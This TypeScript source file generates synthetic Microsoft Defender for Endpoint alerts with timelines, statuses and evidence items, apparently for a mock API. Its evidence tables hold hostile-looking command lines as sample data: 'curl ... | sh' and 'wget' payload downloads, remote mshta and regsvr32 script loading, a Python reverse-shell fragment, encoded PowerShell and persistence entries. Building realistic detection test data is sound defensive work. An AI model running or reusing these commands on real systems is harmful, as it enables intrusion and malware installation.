import { toMdeTime } from "../core/clock.js";
import { createRandom, type Random } from "../core/random.js";
import {
  ALERT_TEMPLATES,
  type AlertTemplate,
  ANALYST_COMMENTS,
  DETERMINATIONS,
  type EvidenceKind,
  INVESTIGATION_STATES,
} from "./alert-catalog.js";
import { makeAlertHostile } from "./hostile.js";
import { alertId } from "./identifiers.js";
import type { MachineRef } from "./machine-factory.js";
import type { ProfileUser, TenantProfile } from "./tenant-profile.js";

/** One alert ready for insertion: indexed columns, the JSON without `evidence`, and the evidence array. */
export interface AlertRow {
  tenant_id: string;
  id: string;
  alert_creation_time: string;
  last_update_time: string;
  last_event_time: string;
  first_event_time: string;
  status: string;
  severity: string;
  category: string;
  detection_source: string;
  incident_id: number;
  investigation_id: number | null;
  assigned_to: string | null;
  machine_id: string;
  json: string;
  evidence: string;
}

/** What alert generation needs about a tenant, built once per batch. */
export interface AlertContext {
  profile: TenantProfile;
  machines: readonly MachineRef[];
  tenantSalt: number;
  /** Upper bound of every generated timestamp (epoch ms). */
  now: number;
  detectorIds: readonly string[];
  templatesByFamily: Readonly<Record<string, readonly number[]>>;
}

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;
const SEVERITIES = ["Informational", "Low", "Medium", "High"] as const;

/** Detector ids are stable per template (a detector is a rule, shared by its alerts). */
export function buildAlertContext(profile: TenantProfile, machines: readonly MachineRef[], tenantSalt: number, now: number): AlertContext {
  const detectorIds = ALERT_TEMPLATES.map((t) => createRandom(`detector/${t.title}`).guid());
  const templatesByFamily: Record<string, number[]> = { windows: [], linux: [], macos: [] };
  ALERT_TEMPLATES.forEach((t, i) => {
    for (const f of t.platforms) templatesByFamily[f]?.push(i);
  });
  return { profile, machines, tenantSalt, now, detectorIds, templatesByFamily };
}

/** The keys of one item of an MDE alert's flat evidence array (mde-api.md §6.1.1), in the documented order. */
export const EVIDENCE_KEYS = [
  "entityType",
  "evidenceCreationTime",
  "sha1",
  "sha256",
  "fileName",
  "filePath",
  "processId",
  "processCommandLine",
  "processCreationTime",
  "parentProcessId",
  "parentProcessCreationTime",
  "parentProcessFileName",
  "parentProcessFilePath",
  "ipAddress",
  "url",
  "registryKey",
  "registryHive",
  "registryValueType",
  "registryValue",
  "accountName",
  "domainName",
  "userSid",
  "aadUserId",
  "userPrincipalName",
  "detectionStatus",
] as const;

/** One evidence item as the store keeps it: every key present, the unused ones null. */
export type MdeEvidence = {
  [K in (typeof EVIDENCE_KEYS)[number]]: K extends "entityType" | "evidenceCreationTime" ? string : K extends "processId" | "parentProcessId" ? number | null : string | null;
};

const PROCESSES: Record<string, ReadonlyArray<readonly [string, string, string]>> = {
  windows: [
    [
      "powershell.exe",
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
      "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    ],
    ["rundll32.exe", "C:\\Windows\\SysWOW64", "rundll32.exe  c:\\users\\public\\update.dll,RepeatAfterMe"],
    ["cmd.exe", "C:\\Windows\\System32", 'cmd.exe /c whoami /all && net group "domain admins" /domain'],
    ["mshta.exe", "C:\\Windows\\System32", "mshta.exe https://cdn-update.example.net/p.hta"],
    ["wmic.exe", "C:\\Windows\\System32\\wbem", 'wmic.exe process call create "c:\\programdata\\svc.exe"'],
    ["regsvr32.exe", "C:\\Windows\\System32", "regsvr32.exe /s /u /i:https://files.example.org/a.sct scrobj.dll"],
  ],
  linux: [
    ["bash", "/usr/bin", "bash -c curl -s http://198.51.100.23/x.sh | sh"],
    ["python3", "/usr/bin", "python3 -c import socket,subprocess,os"],
    ["wget", "/usr/bin", "wget -q -O /tmp/.cache/kworker http://203.0.113.80/k"],
  ],
  macos: [
    ["osascript", "/usr/bin", 'osascript -e do shell script "curl -fsSL https://cdn.example.com/i.sh | sh"'],
    ["zsh", "/bin", "zsh -c launchctl load ~/Library/LaunchAgents/com.apple.updater.plist"],
  ],
};
const PARENTS: Record<string, ReadonlyArray<readonly [string, string]>> = {
  windows: [
    ["explorer.exe", "C:\\Windows"],
    ["winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"],
    ["services.exe", "C:\\Windows\\System32"],
    ["wmiprvse.exe", "C:\\Windows\\System32\\wbem"],
  ],
  linux: [
    ["nginx", "/usr/sbin"],
    ["sshd", "/usr/sbin"],
    ["cron", "/usr/sbin"],
  ],
  macos: [
    ["launchd", "/sbin"],
    ["Terminal", "/System/Applications/Utilities/Terminal.app/Contents/MacOS"],
  ],
};
const FILES: Record<string, ReadonlyArray<readonly [string, string]>> = {
  windows: [
    ["update.dll", "c:\\users\\public"],
    ["invoice_0423.docm", "C:\\Users\\{user}\\Downloads"],
    ["svc.exe", "C:\\ProgramData"],
    ["mimi.exe", "C:\\Windows\\Temp"],
    ["xmrig.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp"],
  ],
  linux: [
    ["kworker", "/tmp/.cache"],
    ["x.sh", "/var/tmp"],
    ["shell.php", "/var/www/html/uploads"],
  ],
  macos: [
    ["com.apple.updater.plist", "/Users/{user}/Library/LaunchAgents"],
    ["updater", "/Users/{user}/.local"],
  ],
};
const DOMAINS = [
  "cdn-update.example.net",
  "login-microsoftonline.example.com",
  "files.example.org",
  "paste.example.io",
  "drive-share.example.com",
];

const EMPTY_EVIDENCE: Readonly<Record<string, unknown>> = Object.freeze(Object.fromEntries(EVIDENCE_KEYS.map((k) => [k, null])));

function emptyEvidence(): Record<string, unknown> {
  return { ...EMPTY_EVIDENCE };
}

function evidenceItem(
  kind: EvidenceKind,
  random: Random,
  family: string,
  user: ProfileUser | undefined,
  creationMs: number,
  firstEventMs: number,
): Record<string, unknown> {
  const e = emptyEvidence();
  e.entityType = kind;
  e.evidenceCreationTime = toMdeTime(creationMs + random.int(200, 2500), random.int(0, 9999));
  const userName = user?.userName ?? "public";
  switch (kind) {
    case "User":
      e.accountName = user?.userName ?? "system";
      e.domainName = user?.domainName ?? "NT AUTHORITY";
      e.userSid = user?.userSid ?? "S-1-5-18";
      e.aadUserId = user?.aadUserId ?? null;
      e.userPrincipalName = user?.userPrincipalName ?? null;
      break;
    case "Process": {
      const [name, path, cmd] = random.pick(PROCESSES[family] ?? PROCESSES.windows ?? []);
      const [pName, pPath] = random.pick(PARENTS[family] ?? PARENTS.windows ?? []);
      e.sha1 = random.hex(40);
      e.sha256 = random.hex(64);
      e.fileName = name;
      e.filePath = path;
      e.processId = random.int(400, 30000);
      e.processCommandLine = cmd;
      e.processCreationTime = toMdeTime(firstEventMs + random.int(0, 2000), random.int(0, 9999));
      e.parentProcessId = random.int(400, 30000);
      e.parentProcessCreationTime = toMdeTime(firstEventMs - random.int(1000, 3 * HOUR), random.int(0, 9999));
      e.parentProcessFileName = pName;
      e.parentProcessFilePath = pPath;
      e.detectionStatus = random.pick(["Detected", "Detected", "Blocked", "Prevented"]);
      break;
    }
    case "File": {
      const [name, path] = random.pick(FILES[family] ?? FILES.windows ?? []);
      e.sha1 = random.hex(40);
      e.sha256 = random.hex(64);
      e.fileName = name;
      e.filePath = path.replace("{user}", userName);
      e.detectionStatus = random.pick(["Detected", "Detected", "Remediated", "Blocked"]);
      break;
    }
    case "Ip":
      e.ipAddress = `${random.pick([45, 91, 103, 185, 194])}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`;
      break;
    case "Url":
      e.url = `https://${random.pick(DOMAINS)}/${random.hex(8)}`;
      break;
    case "Registry":
      e.registryKey = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
      e.registryHive = "HKEY_LOCAL_MACHINE";
      e.registryValueType = "String";
      e.registryValue = `C:\\ProgramData\\${random.pick(["svc", "update", "helper"])}.exe`;
      break;
  }
  return e;
}

export interface AlertSpec {
  index: number;
  creationMs: number;
  incidentId: number;
  /** Force the status (new alerts from the control API start as New). */
  status?: "New" | "InProgress" | "Resolved";
  severity?: string;
  machineId?: string;
}

/**
 * Generates one alert with every documented property (alerts.md, examples
 * get-alert.response.json and list-alerts*.json; mde-api.md §6.1) and a
 * coherent timeline: firstEventTime ≤ lastEventTime ≤ alertCreationTime ≤
 * lastUpdateTime ≤ now, `resolvedTime` only when Resolved, classification and
 * determination paired as update-alert.md lists them.
 */
export function generateAlert(random: Random, ctx: AlertContext, spec: AlertSpec): AlertRow {
  const machine = (spec.machineId ? ctx.machines.find((m) => m.id === spec.machineId) : undefined) ?? random.pick(ctx.machines);
  const pool = ctx.templatesByFamily[machine.family] ?? [];
  const templateIndex = pool.length > 0 ? random.pick(pool) : 0;
  const template = ALERT_TEMPLATES[templateIndex] as AlertTemplate;
  const severity = spec.severity ?? random.weighted(SEVERITIES.map((s, i) => [s, template.severity[i] ?? 0] as const));
  const creationMs = Math.min(spec.creationMs, ctx.now);
  const creationTicks = random.int(0, 9999);
  const firstEventMs = creationMs - random.int(30_000, 3 * HOUR);
  const lastEventMs = firstEventMs + random.int(0, creationMs - firstEventMs - 1);
  const age = ctx.now - creationMs;
  const status =
    spec.status ??
    random.weighted([
      ["New", Math.max(1, 10 - (age / DAY) * 2)],
      ["InProgress", 3],
      ["Resolved", Math.min(25, 2 + (age / DAY) * 3)],
    ] as const);
  let lastUpdateMs = creationMs + random.int(500, 5000);
  if (status === "InProgress") lastUpdateMs = creationMs + random.int(MIN, Math.max(MIN, Math.min(age, 3 * DAY)));
  if (status === "Resolved") lastUpdateMs = creationMs + random.int(5 * MIN, Math.max(5 * MIN, Math.min(age, 7 * DAY)));
  lastUpdateMs = Math.min(lastUpdateMs, ctx.now);
  const alertCreationTime = toMdeTime(creationMs, creationTicks);
  let lastUpdateTime = toMdeTime(lastUpdateMs, random.int(0, 9999));
  if (lastUpdateTime < alertCreationTime) lastUpdateTime = alertCreationTime;

  const user = random.bool(0.85) ? random.pick(ctx.profile.users) : undefined;
  const assignedTo = status === "New" ? (random.bool(0.1) ? random.pick(ctx.profile.analysts) : null) : random.pick(ctx.profile.analysts);
  let classification: string | null = null;
  let determination: string | null = null;
  if (status === "Resolved" || (status === "InProgress" && random.bool(0.3))) {
    classification = random.weighted([
      ["TruePositive", 5],
      ["InformationalExpectedActivity", 3],
      ["FalsePositive", 2],
    ] as const);
    determination = random.bool(0.9) ? random.pick(DETERMINATIONS[classification] ?? ["Other"]) : null;
  }
  const investigated =
    (template.detectionSource === "WindowsDefenderAtp" || template.detectionSource === "WindowsDefenderAv") &&
    machine.family === "windows" &&
    random.bool(0.65);
  const investigationId = investigated ? 10_000 + random.int(0, 9_000_000) : null;
  let investigationState = investigated ? random.weighted(INVESTIGATION_STATES) : "UnsupportedAlertType";
  if (investigated && status === "Resolved" && (investigationState === "Running" || investigationState === "Queued"))
    investigationState = "Benign";
  const comments: Array<{ comment: string; createdBy: string; createdTime: string }> = [];
  const commentCount = status === "New" ? (random.bool(0.1) ? 1 : 0) : random.int(0, 2);
  for (let i = 0; i < commentCount; i++) {
    const at = creationMs + Math.floor(((i + 1) / (commentCount + 1)) * (lastUpdateMs - creationMs));
    comments.push({
      comment: random.pick(ANALYST_COMMENTS),
      createdBy: random.pick(ctx.profile.analysts),
      createdTime: toMdeTime(at, random.int(0, 9999)),
    });
  }
  const id = alertId(creationMs, creationTicks, spec.index, ctx.tenantSalt);
  const alert = {
    id,
    incidentId: spec.incidentId,
    investigationId,
    assignedTo,
    severity,
    status,
    classification,
    determination,
    investigationState,
    detectionSource: template.detectionSource,
    detectorId: ctx.detectorIds[templateIndex] ?? null,
    category: template.category,
    threatFamilyName: template.threatFamilyName ?? null,
    title: template.title,
    description: template.description,
    alertCreationTime,
    firstEventTime: toMdeTime(firstEventMs, random.int(0, 9999)),
    lastEventTime: toMdeTime(lastEventMs, random.int(0, 9999)),
    lastUpdateTime,
    resolvedTime: status === "Resolved" ? lastUpdateTime : null,
    machineId: machine.id,
    computerDnsName: machine.computerDnsName,
    rbacGroupName: machine.rbacGroupName || null,
    aadTenantId: ctx.profile.tenantId,
    threatName: template.threatName ?? null,
    mitreTechniques: [...template.mitreTechniques],
    relatedUser: user ? { userName: user.userName, domainName: user.domainName } : null,
    comments,
  };
  const evidence = template.evidence.map((kind) => evidenceItem(kind, random, machine.family, user, creationMs, firstEventMs));
  if (ctx.profile.hostile) makeAlertHostile(alert, evidence, spec.index);
  return {
    tenant_id: ctx.profile.tenantId,
    id,
    alert_creation_time: alertCreationTime,
    last_update_time: lastUpdateTime,
    last_event_time: alert.lastEventTime,
    first_event_time: alert.firstEventTime,
    status,
    severity,
    category: template.category,
    detection_source: template.detectionSource,
    incident_id: spec.incidentId,
    investigation_id: investigationId,
    assigned_to: assignedTo,
    machine_id: machine.id,
    json: JSON.stringify(alert),
    evidence: JSON.stringify(evidence),
  };
}
